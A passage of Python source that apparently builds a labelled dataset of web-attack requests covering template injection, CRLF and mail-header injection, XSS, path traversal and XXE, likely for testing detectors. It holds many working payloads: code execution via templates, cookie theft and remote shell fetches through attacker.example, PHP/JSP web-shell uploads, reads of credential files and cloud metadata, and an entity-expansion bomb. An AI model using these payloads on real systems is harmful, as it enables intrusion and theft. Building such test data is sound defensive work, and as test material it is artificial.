        "{{ cycler['__in'+'it__']['__glo'+'bals__']['o'+'s']['po'+'pen']('id').read() }}",
        True,
        path="/api/emails/preview",
        param="subject",
    )
    a("form", "{%print(lipsum.__globals__.os.popen('id').read())%}", True, path="/profile/edit", param="bio")
    a(
        "query",
        "{{ lipsum.__globals__[['o','s']|join].popen(['i','d']|join).read() }}",
        True,
        path="/greet",
        param="msg",
    )
    a(
        "json",
        "{{ request|attr('application')|attr('\\u005f\\u005fglobals\\u005f\\u005f')|attr('\\u005f\\u005fgetitem\\u005f\\u005f')('\\u005f\\u005fbuiltins\\u005f\\u005f')|attr('\\u005f\\u005fgetitem\\u005f\\u005f')('\\u005f\\u005fimport\\u005f\\u005f')('os')|attr('popen')('id')|attr('read')() }}",
        True,
        path="/api/templates/render",
        param="template",
    )
    a(
        "query",
        "{{ lipsum|attr(request.args.g)|attr(request.args.gi)('os')|attr('popen')(request.args.cmd)|attr('read')() }}",
        True,
        path="/hello",
        param="name",
        extra_q=[("g", "__globals__"), ("gi", "__getitem__"), ("cmd", "id")],
        no_filler_q=True,
    )
    a(
        "form",
        "{{['Y2F0IC9ldGMvcGFzc3dk']|map('base64_decode')|map('system')|join}}",
        True,
        path="/cms/blocks",
        param="content",
    )
    a("query", '{{"/etc/passwd"|file_excerpt(1,30)}}', True, path="/newsletter/preview", param="title")
    a(
        "json",
        '<#assign c="freemarker.template.utility."+"Execute">${c?new()("id")}',
        True,
        path="/api/invoices/template",
        param="footer",
    )
    a(
        "form",
        "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}",
        True,
        path="/shop/product/description",
        param="description",
    )
    a(
        "json",
        '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id").waitFor()',
        True,
        path="/api/wiki/render",
        param="markup",
    )
    a("query", "__*{T(java.lang.Runtime).getRuntime().exec('id')}__::.x", True, path="/doc", param="section")
    a(
        "query",
        '__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::..x',
        True,
        path="/fragments",
        param="view",
        enc="all",
    )
    a(
        "json",
        '<%= Object.const_get(:IO).popen(["i","d"].join).read %>',
        True,
        path="/api/v1/snippets/preview",
        param="content",
    )
    a("form", "{if passthru(implode('',['i','d']))}{/if}", True, path="/shop/review", param="text")
    a("query", '${self.module.cache.util.os.system("id")}', True, path="/render", param="greeting")
    a(
        "form",
        "#{global.process.mainModule.require('\\u0063hild_process').execSync('id')}",
        True,
        path="/cards/new",
        param="message",
    )
    a(
        "json",
        "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
        True,
        esc=set("{}_"),
        path="/api/pages",
        param="heading",
        deep=True,
    )
    a(
        "xml",
        "{{ cycler.__init__.__globals__.os.popen('uname -a').read() }}",
        True,
        charref=set("{}_"),
        path="/api/letters",
        param="salutation",
    )
    a(
        "json",
        '{{range["constr"+"uctor"]("return glo"+"bal.process.mainModule.require(\'child_pro\'+\'cess\').execSync(\'id\')")()}}',
        True,
        path="/api/nunjucks/preview",
        param="tpl",
    )
    return a.rows


# ---------------------------------------------------------------- crlf ----
def cat_crlf(r):
    a = L()
    a("query", "/home\r\nSet-Cookie: session=attacker_fixed_sid; Path=/", path="/login", param="redirect")
    a("query", "en\r\nLocation: http://attacker.example/", path="/set-language", param="lang")
    a(
        "query",
        "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 39\r\n\r\n<script>alert(document.domain)</script>",
        path="/go",
        param="next",
    )
    a("query", "cb\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(1)>", path="/api/jsonp", param="callback")
    a(
        "form",
        "jdoe\n2026-12-07 10:14:02,118 INFO  [auth] Login succeeded for user=admin from 10.0.4.18",
        path="/login",
        param="username",
        form_extra=[("password", "wrong-password")],
    )
    a(
        "query",
        "https://partner.example\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true",
        path="/api/cors/check",
        param="origin",
    )
    a("path", "x\r\nSet-Cookie: admin=true", path_tpl="/redirect/{}")
    a("header", "shop.example.com%0d%0aSet-Cookie:%20sessionid=attacker", hdr="X-Forwarded-Host", path="/account/reset")
    a("header", "https://shop.example.com/%0D%0AX-Injected:%20yes", hdr="Referer", path="/out")
    a("cookie", "en\r\nSet-Cookie: isAdmin=1", cookie="lang", path="/")
    a(
        "json",
        "report.csv\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
        path="/api/exports",
        param="download_name",
    )
    a(
        "multipart",
        "Payment ok\n[2026-12-07T10:00:00Z] WARN admin password reset for uid=1 by system",
        mp="field",
        path="/api/orders/note",
        param="note",
    )
    a("xml", "x\r\nSet-Cookie: a=b", charref=set("\n"), path="/api/preferences", param="locale")
    a(
        "form",
        "guest\x1b[1A\x1b[2K\x1b[32m[OK]\x1b[0m admin logged in from 10.0.0.5",
        path="/auth",
        param="user",
        form_extra=[("pass", "x")],
    )
    a(
        "query",
        "1 HTTP/1.1\r\nHost: internal.local\r\n\r\nGET /admin HTTP/1.1\r\nX-Ignore:",
        path="/api/proxy/item",
        param="id",
    )
    a("query_key", "a\r\nSet-Cookie: sid=fixed", keyval="1", path="/search")
    a(
        "json_key",
        "user\n2026-12-07 11:02:33 INFO payment approved order=9911 amount=0.01",
        keyval="x",
        path="/api/events",
        param="attributes",
    )
    a(
        "json",
        'order 4411\r\n127.0.0.1 - admin [07/Dec/2026:11:00:00 +0000] "GET /admin/export HTTP/1.1" 200 5120',
        path="/api/orders/comment",
        param="comment",
    )
    a("query", "/dashboard\r\nRefresh: 0; url=https://attacker.example/", path="/auth/callback", param="returnTo")
    a("form", "topic\r\nLink: <https://attacker.example/evil.css>; rel=stylesheet", path="/forum/new", param="title")
    a("query", "en-US\r\nContent-Security-Policy: script-src * 'unsafe-inline'", path="/i18n", param="locale")
    a(
        "cookie",
        "/\r\n\r\n<html><body><form action=https://attacker.example/login>password: <input name=p></form></body></html>",
        cookie="last_page",
        path="/resume",
    )
    a("multipart", "x\r\nX-Accel-Redirect: /internal/secrets.txt", mp="field", path="/api/files/download", param="name")
    a("path", "en\r\nX-Accel-Redirect: /protected/backup.sql", path_tpl="/i18n/{}/messages")
    a("json", "MyBot/1.0\r\nX-Forwarded-For: 127.0.0.1\r\nX-Admin: 1", path="/api/webhooks", param="user_agent")
    a("header", "abc%0d%0aX-Log-Forged:%20admin-login-ok", hdr="X-Request-ID", path="/api/health")
    a(
        "xml",
        "ok\n2026-12-07 12:00:01 AUDIT role changed user=eve role=admin",
        charref=set("\n"),
        path="/api/audit/note",
        param="text",
    )
    a("form", "/en\r\nSet-Cookie: __Host-session=x; Secure; Path=/", path="/language", param="return")
    a(
        "json",
        pad_text(r) + "\n2026-12-07 09:00:00 ERROR [payments] refund issued order=77123 amount=4999.00 approved_by=cfo",
        path="/api/tickets",
        param="description",
    )
    a("query", "/\r\nLocation: //attacker.example/%2f..", path="/logout", param="next")
    # hard
    a("query", "/home\u560a\u560dSet-Cookie: sid=attacker", True, path="/login", param="redirect")
    a("json", "\u560d\u560aLocation: https://attacker.example/", True, path="/api/short-links", param="target")
    a("query", "%0d%0aSet-Cookie:%20x=1", True, path="/set-language", param="lang")
    a("query", "\nSet-Cookie: csrftoken=attacker", True, path="/page", param="p")
    a("query", "/x\rLocation: https://attacker.example", True, path="/go", param="next")
    a("query", "%u000d%u000aSet-Cookie: a=1", True, path="/Default.aspx", param="ReturnUrl")
    a("json", "x\r\nSet-Cookie: b=2", True, esc=set("\r\n"), path="/api/redirects", param="path")
    a("query", "%c0%8d%c0%8aSet-Cookie: c=3", True, path="/go", param="to")
    a("query", "%%0d0d%%0a0aSet-Cookie: d=4", True, path="/i18n", param="locale")
    a("json", "guest\u2028[INFO] admin authenticated via SSO", True, path="/api/login/attempts", param="username")
    a("query", "guest\u0085[INFO] password changed for admin", True, path="/api/audit", param="actor")
    a("xml", "x\r\nSet-Cookie: f=6", True, charref=set("\r\n"), path="/api/preferences", param="theme")
    a("header", "shop.example.com%0d%0aLocation:%09https://attacker.example", True, hdr="X-Forwarded-Host", path="/")
    a("cookie", "en\r\nSet-Cookie: h=8", True, cookie="lang", path="/", enc="all")
    a("path", "%0D%0ASet-Cookie:%20i=9", True, path_tpl="/redirect/{}")
    a("form", "user\x1b]2;pwned\x07\x1b[2J", True, path="/auth", param="user", form_extra=[("pass", "x")])
    a(
        "query",
        "\u560a\u560dContent-Type: text/html\u560a\u560d\u560a\u560d<svg onload=alert(1)>",
        True,
        path="/download",
        param="name",
    )
    a(
        "json_key",
        "k\r\n2026-12-07 10:00:00 INFO user=admin action=grant-role role=owner",
        True,
        keyval="v",
        esc_map={"k\r\n2026-12-07 10:00:00 INFO user=admin action=grant-role role=owner": set("\r\n")},
        path="/api/metrics/tags",
        param="tags",
    )
    a(
        "multipart",
        "ok\r2026-12-07 08:00:00 INFO transfer approved id=5512",
        True,
        mp="field",
        path="/api/transfers/memo",
        param="memo",
    )
    a("query", "x\r\nsEt-CoOkIe: k=11", True, path="/page", param="ref", enc="all")
    return a.rows


# ---------------------------------------------------------------- mail ----
def cat_mail(r):
    a = L()
    a(
        "form",
        "attacker@example.net\r\nBcc: victim1@example.com,victim2@example.org",
        path="/contact",
        param="email",
        form_extra=[("name", "Sam"), ("message", "Hi")],
    )
    a(
        "form",
        "Hello\r\nCc: list@example.org",
        path="/contact",
        param="subject",
        form_extra=[("email", "sam@example.net")],
    )
    a(
        "form",
        'John\r\nContent-Type: text/html\r\n\r\n<h1>Your account is locked</h1><a href="https://attacker.example/login">verify</a>',
        path="/feedback",
        param="name",
    )
    a("query", "victim@example.com\nBcc: spam-list@example.net", path="/newsletter/subscribe", param="email")
    a(
        "json",
        "test@example.com>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: invoice\r\n\r\npay here\r\n.\r\nQUIT\r\n",
        path="/api/mail/send",
        param="from",
    )
    a("form", 'INBOX"\r\nA002 LIST "" "*"\r\nA003 SELECT "INBOX', path="/webmail/folder", param="mailbox")
    a(
        "form",
        "attacker@example.net -OQueueDirectory=/tmp -X/var/www/html/cache/log.php",
        path="/contact.php",
        param="from",
    )
    a("json", '"attacker\\" -oQ/tmp/ -X/var/www/html/shell.php some"@example.com', path="/api/contact", param="email")
    a("form", '${run{/bin/sh -c "id > /tmp/exim"}}@localhost', path="/notify", param="to")
    a(
        "header",
        "me@example.com%0aBcc:%20x@example.net",
        hdr="X-Reply-To",
        path="/api/support/ticket",
        method="POST",
        body_override=("application/json", '{"subject":"help","body":"printer broken"}'),
    )
    a("json", "me@example.net\nBcc: list@example.org", path="/api/share", param="reply_to")
    a(
        "multipart",
        "Invoice\r\nBcc: finance-all@example.com",
        mp="field",
        path="/api/support/attachments",
        param="subject",
    )
    a("xml", "a@example.com\r\nBcc: b@example.net", charref=set("\n"), path="/api/notify", param="email")
    a("path", "victim@example.com\r\nBcc: x@example.net", path_tpl="/unsubscribe/{}")
    a("cookie", "me@example.com\r\nBcc: all@example.org", cookie="newsletter_email", path="/newsletter/confirm")
    a(
        "form",
        "x\r\n.\r\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<finance@example.com>\r\nDATA\r\nSubject: urgent wire\r\n\r\nplease pay\r\n.\r\n",
        path="/contact",
        param="message",
    )
    a(
        "json",
        "Order update\r\nReply-To: attacker@example.net\r\nX-Mailer: Outlook",
        path="/api/mail/compose",
        param="subject",
    )
    a("query", "5\r\nA1 STORE 1:* +FLAGS (\\Deleted)\r\nA2 EXPUNGE", path="/webmail/message", param="uid")
    a("form", "Mallory\r\nTo: everyone@example.org", path="/invite", param="sender_name")
    a(
        "json",
        '\r\nContent-Type: multipart/mixed; boundary="XYZ"\r\n\r\n--XYZ\r\nContent-Type: text/html\r\n\r\n<a href="https://attacker.example/reset">Reset your password</a>\r\n--XYZ--',
        path="/api/mail/compose",
        param="subject",
    )
    a("query", "user@example.com\r\nRCPT TO:<victim@example.org>", path="/api/verify-email", param="to")
    a("multipart", "Jane\nBcc: a@example.net, b@example.net", mp="field", path="/careers/apply", param="full_name")
    a("xml", "Status\r\nBcc: audit-bypass@example.net", path="/services/Mailer", param="Subject", xml_style=1)
    a("json", "user@example.com -C/etc/passwd -X/tmp/leak.log", path="/api/newsletter", param="sender")
    a("form", "support@example.com,victim@example.org\r\nBcc: x@example.net", path="/share", param="to")
    a(
        "header",
        "ann@example.org%0d%0aBcc:%20list@example.org",
        hdr="X-Contact-Email",
        path="/api/callback",
        method="POST",
        body_override=("application/json", '{"phone":"+1 555 0100"}'),
    )
    a(
        "query",
        "a@example.net\r\nReturn-Path: <bounce@attacker.example>\r\nBcc: x@example.org",
        path="/api/mail/test",
        param="from",
    )
    a("json", '"INBOX" (\\Seen)\r\nA5 COPY 1:* "Trash"', path="/api/imap/flags", param="folder")
    a("multipart", "friend@example.org\r\nBcc: 500-addresses@example.net", mp="field", path="/refer", param="cc")
    a("form", "Re: quote\r\nBcc: competitor@example.net", path="/quote/request", param="subject")
    # hard
    a("query", "a@example.com\rBcc: x@example.net", True, path="/newsletter/subscribe", param="email")
    a("query", "x@example.com%0d%0aBcc:%20y@example.net", True, path="/newsletter/subscribe", param="email")
    a("json", "me@example.com\r\nBcc: z@example.net", True, esc=set("\r\n"), path="/api/contact", param="email")
    a("form", "me@example.com\r\nbCC: list@example.org", True, path="/contact", param="email")
    a(
        "json",
        "Thanks!\n.\r\nMAIL FROM:<admin@example.com>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nFrom: admin@example.com\r\nSubject: urgent\r\n\r\nwire the money\r\n.\r\n",
        True,
        path="/api/contact",
        param="body",
    )
    a(
        "form",
        "Hi\r\n.\nMAIL FROM:<it@example.com>\nRCPT TO:<staff@example.com>\nDATA\nSubject: password expiry\n\nreset here\n.\n",
        True,
        path="/contact",
        param="message",
    )
    a(
        "form",
        '"attacker\\\\\\" -oQ/tmp/ -X/var/www/html/c.php x"@example.com',
        True,
        path="/contact.php",
        param="email",
    )
    a("json", "${run{\\x2fbin\\x2fsh\\t-c\\t\\x22id\\x22}}@localhost", True, path="/api/notify", param="recipient")
    a(
        "query",
        '${run{/bin/sh -c "echo aWQgPiAvdG1wL3B3bg==|base64 -d|sh"}}@localhost',
        True,
        path="/notify",
        param="to",
    )
    a(
        "form",
        "Ann\r\nContent-Type: multipart/mixed; boundary=b1\r\n\r\n--b1\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n--b1--"
        % b64('<a href="https://attacker.example/sso">Sign in</a>'),
        True,
        path="/feedback",
        param="name",
    )
    a("xml", "ops@example.com\r\nBcc: leak@example.net", True, charref=set("\r\n"), path="/api/notify", param="to")
    a(
        "cookie",
        "me@example.com\r\nBcc: y@example.org",
        True,
        cookie="newsletter_email",
        enc="all",
        path="/newsletter/confirm",
    )
    a(
        "header",
        "me@example.com%0D%0ABcc:%09x@example.net",
        True,
        hdr="X-Reply-To",
        path="/api/support/ticket",
        method="POST",
        body_override=("application/json", '{"subject":"refund"}'),
    )
    a("form", '-f"attacker@example.net" -oQ/tmp -X/var/www/html/rce.php', True, path="/mailer.php", param="sender")
    a("json", 'INBOX" {0}\r\n\r\nA1 DELETE "INBOX"\r\n', True, path="/api/imap/select", param="mailbox")
    a("path", "victim@example.com\r\nBcc: x@example.net", True, path_tpl="/unsubscribe/{}", enc="all")
    a(
        "multipart",
        "Quote\nCC: rival@example.net\nBCC: press@example.org",
        True,
        mp="field",
        path="/quote/upload",
        param="subject",
    )
    a(
        "json",
        "x@example.com\r\nRSET\r\nMAIL FROM:<ceo@example.com>\r\nRCPT TO:<all-staff@example.com>\r\nDATA\r\nSubject: Payroll update\r\n\r\nSee attached.\r\n.\r\n",
        True,
        path="/api/mail/send",
        param="from",
        deep=True,
    )
    a("form", b64("a@example.com\r\nBcc: b@example.net"), True, path="/invite/accept", param="token_email")
    a(
        "xml",
        "hi\n.\r\nMAIL FROM:<billing@example.com>\r\nRCPT TO:<cfo@example.com>\r\nDATA\r\n\r\nnew bank details\r\n.\r\n",
        True,
        charref=set("\r\n."),
        path="/api/contact",
        param="message",
    )
    return a.rows


# ----------------------------------------------------------------- xss ----
def cat_xss(r):
    a = L()
    a("query", "<script>alert(document.cookie)</script>", path="/search", param="q")
    a("query", "<img src=x onerror=alert(1)>", path="/welcome", param="name")
    a(
        "json",
        "<svg onload=fetch('//attacker.example/?c='+document.cookie)>",
        path="/api/posts/118/comments",
        param="body",
    )
    a("query", '"><script src=https://attacker.example/x.js></script>', path="/products", param="q")
    a("form", "javascript:alert(document.domain)", path="/account/profile", param="website")
    a(
        "json",
        '<iframe srcdoc="<script>parent.alert(document.domain)</script>"></iframe>',
        path="/api/users/me",
        param="bio",
    )
    a(
        "json",
        "<details open ontoggle=alert(document.domain)>",
        path="/api/v1/products/55",
        param="description",
        method="PATCH",
    )
    a("form", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", path="/wiki/edit", param="content")
    a("query", "'-alert(1)-'", path="/checkout", param="ref")
    a("query", "</script><script>alert(document.domain)</script>", path="/embed", param="theme")
    a(
        "json",
        "<a href=\"javascript:fetch('/api/me').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))\">click</a>",
        path="/api/pages",
        param="html",
    )
    a("query", "<input autofocus onfocus=alert(1)>", path="/search", param="term")
    a("form", "<video><source onerror=alert(1)>", path="/guestbook", param="message")
    a("json", '<object data="javascript:alert(1)"></object>', path="/api/widgets", param="markup")
    a("json", "${alert(document.domain)}", path="/api/banners", param="title")
    a("query", "{{constructor.constructor('alert(document.cookie)')()}}", path="/app/search", param="q")
    a("json", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", path="/api/tickets", param="subject")
    a("form", "<form><button formaction=javascript:alert(1)>Submit</button></form>", path="/cms/page", param="body")
    a("query", "javascript:alert(document.cookie)", path="/login", param="returnUrl")
    a(
        "multipart",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>\n',
        mp="file",
        fname="logo.svg",
        fctype="image/svg+xml",
        path="/api/brand/logo",
        param="logo",
    )
    a("json", "[click me](javascript:alert(document.domain))", path="/api/issues/12/comments", param="body")
    a("header", "\"><script>fetch('//attacker.example/r?'+document.cookie)</script>", hdr="Referer", path="/pricing")
    a("header", "<img src=x onerror=alert(document.cookie)>", hdr="User-Agent", path="/")
    a("cookie", '"><svg onload=alert(1)>', cookie="username", path="/dashboard")
    a("path", "<script>alert(1)</script>", path_tpl="/profile/{}")
    a("query_key", "<svg onload=alert(document.domain)>", keyval="1", path="/search")
    a("json_key", "<img src=x onerror=alert(document.domain)>", keyval="x", path="/api/v1/contacts", param="contact")
    a("xml", "<script>alert(document.domain)</script>", path="/api/feed/items", param="description")
    a("multipart", '<base href="//attacker.example/">', mp="field", path="/cms/snippet", param="head_html")
    a(
        "json",
        pad_text(r) + " <img src=x onerror=\"fetch('https://attacker.example/k?'+document.cookie)\">",
        path="/api/reviews",
        param="text",
    )
    # hard
    a("query", "<sCrIpT>alert(1)</ScRiPt>", True, path="/search", param="q")
    a("json", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", True, path="/api/posts/7/comments", param="body")
    a("form", "<svg/onload=alert&#40;1&#41;>", True, path="/guestbook", param="message")
    a("json", '<a href="jav&#x09;ascript:alert(1)">x</a>', True, path="/api/pages", param="html")
    a("form", '<a href="&#106;avascript:alert(1)">profile</a>', True, path="/account/profile", param="about")
    a("query", "<img src=x onerror=\\u0061lert(1)>", True, path="/welcome", param="name")
    a("json", "<svg><script>alert&lpar;1&rpar;</script></svg>", True, path="/api/widgets", param="markup")
    a("query", "<img src=x onerror=top[atob('YWxlcnQ=')](1)>", True, path="/search", param="term")
    a(
        "form",
        "<img src=x onerror=eval(String.fromCharCode(%s))>" % ",".join(str(ord(c)) for c in "alert(document.domain)"),
        True,
        path="/forum/settings",
        param="signature",
    )
    a("query", "<svg onload=alert`1`>", True, path="/products", param="q")
    a(
        "json",
        '<iframe src="data:text/html;base64,%s"></iframe>' % b64("<script>alert(origin)</script>"),
        True,
        path="/api/users/me",
        param="bio",
    )
    a("query", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", True, path="/search", param="q")
    a("json", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', True, path="/api/comments", param="html")
    a("query", pct_once("<script>alert(1)</script>"), True, path="/error", param="msg")
    a("form", "<img src=x onerror=\"window['al'+'ert'](document.domain)\">", True, path="/wiki/edit", param="content")
    a(
        "json",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
        True,
        path="/api/diagrams",
        param="svg",
        deep=True,
    )
    a("json", "<script>alert(document.domain)</script>", True, esc=set("<>/"), path="/api/notes", param="title")
    a("query", "<img src=x:x onerror=import('//attacker.example/m.js')>", True, path="/welcome", param="name")
    a("query", '" autofocus onfocus=alert(document.domain) x="', True, path="/search", param="q", enc="all")
    a("xml", "<img src=x onerror=alert(1)>", True, charref=set("<>="), path="/api/feed/items", param="title")
    return a.rows


# ------------------------------------------------------- path traversal ----
def cat_path(r):
    a = L()
    a("query", "../../../../etc/passwd", path="/download", param="file")
    a("query", "..\\..\\..\\windows\\win.ini", path="/Download.aspx", param="f")
    a("query", "/etc/passwd", path="/render", param="template")
    a("query", "../../../../proc/self/environ", path="/api/logs/view", param="name")
    a("json", "../../app/config/database.yml", path="/api/files/read", param="path")
    a("query", "../../../var/log/nginx/access.log", path="/admin/logs", param="log")
    a("query", "C:\\inetpub\\wwwroot\\web.config", path="/GetFile.ashx", param="file")
    a("json", "../../../../root/.ssh/id_rsa", path="/api/deploy/keys", param="key_file")
    a("json", "../.env", path="/api/docs/open", param="doc")
    a("query", "../../WEB-INF/web.xml", path="/portal/view", param="page")
    a(
        "multipart",
        "../../../var/www/html/shell.php",
        mp="filename",
        fcontent="<?php system($_GET['c']); ?>\n",
        fctype="application/x-php",
        path="/api/upload",
        param="file",
    )
    a(
        "multipart",
        "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
        mp="filename",
        fcontent="203.0.113.7 login.example.com\r\n",
        fctype="text/plain",
        path="/Upload/Handler.ashx",
        param="file",
    )
    a("form", "/proc/self/cwd/config.py", path="/api/source", param="module")
    a("form", "../../../../etc/shadow", path="/mail/attach", param="attachment")
    a("path", "../../../../etc/group", path_tpl="/static/{}", path_safe="/")
    a("path", "..\\..\\..\\boot.ini", path_tpl="/files/{}")
    a("cookie", "../../../../../../etc/passwd", cookie="template", path="/index.php")
    a("header", "../../../../../../etc/passwd", hdr="Accept-Language", path="/")
    a("xml", "../../../../etc/hosts", path="/api/reports/export", param="file")
    a(
        "json_key",
        "../../../../etc/cron.d/backdoor",
        keyval="* * * * * root curl -s http://attacker.example/c|sh\n",
        path="/api/bundles",
        param="files",
    )
    a("multipart", "../../uploads/../config/secrets.yml", mp="field", path="/api/assets/move", param="dest_path")
    a(
        "json",
        "../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
        path="/api/templates/load",
        param="name",
        deep=True,
    )
    a("query", "../../../../../../opt/app/.git/config", path="/api/static", param="asset")
    a("form", "/var/www/html/../../../etc/passwd", path="/viewer", param="doc")
    a("query", "../../../../usr/local/tomcat/conf/tomcat-users.xml", path="/portal/include", param="file")
    a("json", "..\\..\\..\\..\\Users\\Administrator\\.aws\\credentials", path="/api/v1/backup/restore", param="source")
    a("cookie", "../../../../home/app/.bash_history", cookie="export_file", path="/api/export")
    a(
        "multipart",
        "../../../../home/app/.ssh/authorized_keys",
        mp="filename",
        fcontent="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOfakekeyfakekeyfakekeyfakekeyfakekey attacker\n",
        fctype="application/octet-stream",
        path="/api/import/archive-entry",
        param="entry",
    )
    a("path", "../../../etc/passwd", path_tpl="/api/v1/files/{}")
    a("header", "/../../../../etc/passwd", hdr="X-Original-URL", path="/index")
    # hard
    a("query", "....//....//....//etc/passwd", True, path="/download", param="file")
    a("query", "..././..././..././etc/passwd", True, path="/api/logs/view", param="name")
    a("query", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", True, path="/render", param="template")
    a("path", "..%252f..%252f..%252fetc%252fpasswd", True, path_tpl="/static/{}")
    a("query", "..%c0%af..%c0%af..%c0%afetc/passwd", True, path="/download", param="file")
    a("query", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd", True, path="/api/files", param="path")
    a(
        "json",
        "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd",
        True,
        path="/api/files/read",
        param="path",
    )
    a("query", "../../../etc/passwd\x00.png", True, path="/image", param="name")
    a("form", "..\\/..\\/..\\/etc\\/passwd", True, path="/docs", param="doc")
    a("path", "..;", True, path_tpl="/app/{}/..;/WEB-INF/web.xml", path_safe=";")
    a("query", "%u002e%u002e%u2215%u002e%u002e%u2215windows%u2215win.ini", True, path="/Download.aspx", param="f")
    a("query", "\\\\?\\C:\\Windows\\win.ini", True, path="/GetFile.ashx", param="file")
    a("form", "invoice.pdf/../../../../etc/passwd", True, path="/mail/attach", param="attachment")
    a("path", ".%2e/.%2e/.%2e/.%2e/etc/passwd", True, path_tpl="/assets/{}")
    a(
        "multipart",
        "..%2f..%2f..%2fwww%2fshell.jsp",
        True,
        mp="filename",
        fcontent='<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n',
        fctype="application/octet-stream",
        path="/api/upload",
        param="file",
    )
    a(
        "json_key",
        "..\uff0f..\uff0f..\uff0fetc\uff0fcron.d\uff0fjob",
        True,
        keyval="* * * * * root id > /tmp/o\n",
        path="/api/bundles",
        param="files",
    )
    a("json", "../../../etc/passwd", True, esc=set("./"), path="/api/templates/load", param="name")
    a("cookie", "../../../../etc/passwd", True, cookie="template", enc="all", path="/index.php")
    a("xml", "../../../../etc/shadow", True, charref=set("./"), path="/api/reports/export", param="file")
    a("header", "..%252f..%252f..%252fetc%252fpasswd", True, hdr="X-Rewrite-URL", path="/")
    return a.rows


# ----------------------------------------------------------------- xxe ----
def xdoc(root, body, subset, decl=True, inner_tag=None):
    d = '<?xml version="1.0" encoding="UTF-8"?>\n' if decl else ""
    return d + "<!DOCTYPE %s [\n%s\n]>\n%s" % (root, subset, body)


def utf7_strict(s):
    out = []
    for ch in s:
        if ch.isalnum() or ch in " '(),-./:?\n":
            out.append(ch)
        else:
            out.append("+" + base64.b64encode(ch.encode("utf-16-be")).decode().rstrip("=") + "-")
    return "".join(out)


def cat_xxe(r):
    a = L()
    X = lambda p, hard=False, **o: a("xml", p, hard, xml_doc=True, **o)
    X(
        xdoc("order", "<order><id>1042</id><note>&x;</note></order>", '  <!ENTITY x SYSTEM "file:///etc/passwd">'),
        path="/api/orders",
    )
    X(
        xdoc(
            "user",
            "<user><name>&c;</name></user>",
            '  <!ENTITY c SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">',
        ),
        path="/profile/import.php",
    )
    X(
        xdoc(
            "stockCheck",
            "<stockCheck><productId>&meta;</productId><storeId>1</storeId></stockCheck>",
            '  <!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">',
        ),
        path="/product/stock",
    )
    X(
        xdoc("data", "<data>1</data>", '  <!ENTITY % remote SYSTEM "http://attacker.example/ev.dtd">\n  %remote;'),
        path="/api/v1/import",
    )
    X(
        xdoc(
            "r",
            "<r>&send;</r>",
            '  <!ENTITY % file SYSTEM "file:///etc/hostname">\n  <!ENTITY % dtd SYSTEM "http://203.0.113.7:8000/combine.dtd">\n  %dtd;',
        ),
        path="/api/sync",
    )
    X(
        xdoc("invoice", "<invoice><ref>&w;</ref></invoice>", '  <!ENTITY w SYSTEM "file:///c:/windows/win.ini">'),
        path="/Invoices/Upload",
    )
    X(
        xdoc(
            "lolz",
            "<lolz>&lol6;</lolz>",
            '  <!ENTITY lol "lol">\n'
            + "\n".join(
                '  <!ENTITY lol%d "%s">' % (i, ("&lol%s;" % ("" if i == 1 else i - 1)) * 10) for i in range(1, 7)
            ),
        ),
        path="/api/parse",
    )
    X(
        '<?xml version="1.0"?>\n<catalog xmlns:xi="http://www.w3.org/2001/XInclude">\n  <item><xi:include parse="text" href="file:///etc/passwd"/></item>\n</catalog>',
        path="/api/catalog/import",
    )
    a(
        "multipart",
        xdoc(
            "svg",
            '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="60"><text x="0" y="20">&h;</text></svg>',
            '  <!ENTITY h SYSTEM "file:///etc/hostname">',
        ),
        mp="file",
        fname="avatar.svg",
        fctype="image/svg+xml",
        path="/api/users/avatar",
        param="avatar",
    )
    a(
        "multipart",
        xdoc(
            "Workbook",
            '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row><Cell><Data>&e;</Data></Cell></Row></Table></Worksheet></Workbook>',
            '  <!ENTITY e SYSTEM "file:///etc/passwd">',
        ),
        mp="file",
        fname="report.xml",
        fctype="application/vnd.ms-excel",
        path="/api/reports/upload",
        param="sheet",
    )
    X(
        xdoc(
            "soap:Envelope",
            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&u;</id></getUser></soap:Body></soap:Envelope>',
            '  <!ENTITY u SYSTEM "file:///etc/shadow">',
        ),
        path="/ws/UserService",
        ctype="text/xml; charset=utf-8",
    )
    X(
        xdoc(
            "message",
            "<message>x</message>",
